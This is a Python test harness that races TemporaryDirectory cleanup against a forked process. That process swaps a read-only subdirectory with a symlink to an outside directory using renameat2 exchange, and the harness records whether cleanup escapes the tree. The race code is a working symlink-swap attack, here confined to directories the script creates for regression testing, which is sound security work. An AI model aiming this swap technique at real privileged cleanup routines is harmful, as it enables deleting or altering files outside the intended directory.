"""The exchange attack on TemporaryDirectory cleanup (issue 14), against a Python module.

The same attack as fuzzlib::exchange (the crate's side): a TemporaryDirectory holding
``sub/`` (mode 0500, 40 files) and ``link``, a symlink to a directory outside holding files of
the same names; a separate process exchanges ``sub`` and ``link`` with
``renameat2(RENAME_EXCHANGE)`` in a tight loop while ``cleanup()`` runs. Each run records
whether anything outside changed (an escape), whether ``cleanup()`` raised (an error) and
whether the tree is still there.

    python3 exchange_cleanup.py --runs 1000 [--module tempfile]

prints ``RESULT module=<m> python=<version> runs=N escapes=N errors=N left=N exchanges=N``,
then the errors seen, by exception and message. ``run(module_name, runs)`` is the same from an
embedded interpreter (conformance's ``exchange_cleanup`` example runs it for ``tempfile`` and
``pytempfile``).

Run as root, the script drops CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH first (from this thread,
which runs the cleanup), so that ``sub``'s mode applies and cleanup's permission reset runs.
"""

import argparse
import collections
import ctypes
import importlib
import os
import re
import shutil
import signal
import stat
import sys
import tempfile as _std_tempfile

FILES = 40
SYS_renameat2 = 316  # x86_64
RENAME_EXCHANGE = 2


def drop_dac_override():
    """Drop CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH from this thread; True if root (now
    without them), False if not root (permission bits apply anyway)."""
    if os.geteuid() != 0:
        return False
    libc = ctypes.CDLL(None, use_errno=True)

    class Header(ctypes.Structure):
        _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]

    class Data(ctypes.Structure):
        _fields_ = [("effective", ctypes.c_uint32), ("permitted", ctypes.c_uint32),
                    ("inheritable", ctypes.c_uint32)]

    SYS_capget, SYS_capset = 125, 126  # x86_64
    hdr = Header(0x20080522, 0)
    data = (Data * 2)()
    if libc.syscall(SYS_capget, ctypes.byref(hdr), data) != 0:
        raise OSError(ctypes.get_errno(), "capget")
    bits = (1 << 1) | (1 << 2)
    for f in ("effective", "permitted", "inheritable"):
        setattr(data[0], f, getattr(data[0], f) & ~bits)
    if libc.syscall(SYS_capset, ctypes.byref(hdr), data) != 0:
        raise OSError(ctypes.get_errno(), "capset")
    # Not held now (whether this call or an earlier one dropped them).
    return True


def snapshot(d):
    out = {".": stat.S_IMODE(os.lstat(d).st_mode)}
    for n in sorted(os.listdir(d)):
        st = os.lstat(os.path.join(d, n))
        with open(os.path.join(d, n), "rb") as f:
            out[n] = (stat.S_IMODE(st.st_mode), st.st_ino, f.read())
    return out


def _short(v):
    if v is None:
        return "absent"
    if isinstance(v, int):
        return "mode %o" % v
    return "mode %o" % v[0]


def build(top, outside):
    os.mkdir(outside)
    sub = os.path.join(top, "sub")
    os.mkdir(sub)
    for i in range(FILES):
        with open(os.path.join(sub, "f%02d" % i), "w") as f:
            f.write("tree %d" % i)
        with open(os.path.join(outside, "f%02d" % i), "w") as f:
            f.write("OUTSIDE %d" % i)
    os.chmod(sub, 0o500)
    os.chmod(outside, 0o755)
    os.symlink(outside, os.path.join(top, "link"))


def start_attacker(top, counter_fd):
    """Fork the exchanging process; return its pid once it has tried a first exchange."""
    libc = ctypes.CDLL(None, use_errno=True)
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            dfd = os.open(top, os.O_PATH | os.O_DIRECTORY | os.O_NOFOLLOW)
            a, b = b"sub", b"link"
            n = 0
            first = True
            while True:
                if libc.syscall(SYS_renameat2, dfd, a, dfd, b, RENAME_EXCHANGE) == 0:
                    n += 1
                    if n % 64 == 0:
                        os.pwrite(counter_fd, n.to_bytes(8, "little"), 0)
                if first:
                    first = False
                    os.write(w, b"x")
        finally:
            os._exit(0)
    os.close(w)
    os.read(r, 1)
    os.close(r)
    return pid


def stop_attacker(pid, counter_fd):
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    return int.from_bytes(os.pread(counter_fd, 8, 0) or b"\0", "little")


def force_remove(p):
    if not os.path.lexists(p):
        return
    if os.path.isdir(p) and not os.path.islink(p):
        for root, dirs, _ in os.walk(p):
            for d in dirs:
                q = os.path.join(root, d)
                if not os.path.islink(q):
                    os.chmod(q, 0o700)
        os.chmod(p, 0o700)
        shutil.rmtree(p)
    else:
        os.unlink(p)


def run(module_name, runs, base=None):
    """Run ``runs`` attacked cleanups with ``module_name``; return the result as a dict."""
    t = importlib.import_module(module_name)
    root = _std_tempfile.mkdtemp(prefix="exchange-", dir=base or "/dev/shm")
    os.chmod(root, 0o755)
    work = os.path.join(root, "work")
    os.mkdir(work)
    counter = os.open(os.path.join(root, "counter"), os.O_RDWR | os.O_CREAT, 0o600)
    held = drop_dac_override()
    res = {"module": module_name, "python": sys.version.split()[0], "runs": 0, "escapes": 0,
           "errors": 0, "left": 0, "exchanges": 0, "dac_dropped": held}
    kinds = collections.Counter()
    try:
        for i in range(runs):
            d = t.TemporaryDirectory(dir=work, prefix="td")
            top = d.name
            outside = os.path.join(root, "outside%d" % i)
            build(top, outside)
            before = snapshot(outside)
            os.pwrite(counter, (0).to_bytes(8, "little"), 0)
            pid = start_attacker(top, counter)
            try:
                d.cleanup()
            except Exception as e:  # the observation is the exception
                res["errors"] += 1
                msg = re.sub(r"/\S*?/td\w+", "<top>", str(e))
                kinds["%s: %s" % (type(e).__name__, msg)] += 1
            finally:
                res["exchanges"] += stop_attacker(pid, counter)
            res["runs"] += 1
            after = snapshot(outside)
            if after != before:
                res["escapes"] += 1
                changed = sorted(k for k in set(before) | set(after)
                                 if before.get(k) != after.get(k))
                kinds["ESCAPE outside changed: %s" % ", ".join(
                    "%s %s -> %s" % (k, _short(before.get(k)), _short(after.get(k)))
                    for k in changed[:4])] += 1
            if os.path.lexists(top):
                res["left"] += 1
                force_remove(top)
            # Nothing more for the finalizer to do.
            d._finalizer.detach()
            force_remove(outside)
    finally:
        os.close(counter)
    res["error_kinds"] = dict(kinds)
    # Removing the sandbox needs no permission override: everything in it is 0700 or 0755.
    shutil.rmtree(root, ignore_errors=True)
    return res


def line(res):
    return ("RESULT module={module} python={python} runs={runs} escapes={escapes} "
            "errors={errors} left={left} exchanges={exchanges} dac_dropped={dac_dropped}"
            .format(**res))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--runs", type=int, default=1000)
    ap.add_argument("--module", default="tempfile")
    args = ap.parse_args()
    res = run(args.module, args.runs)
    print(line(res))
    for k, n in sorted(res["error_kinds"].items(), key=lambda kv: -kv[1]):
        print("  %5d  %s" % (n, k))


if __name__ == "__main__":
    main()
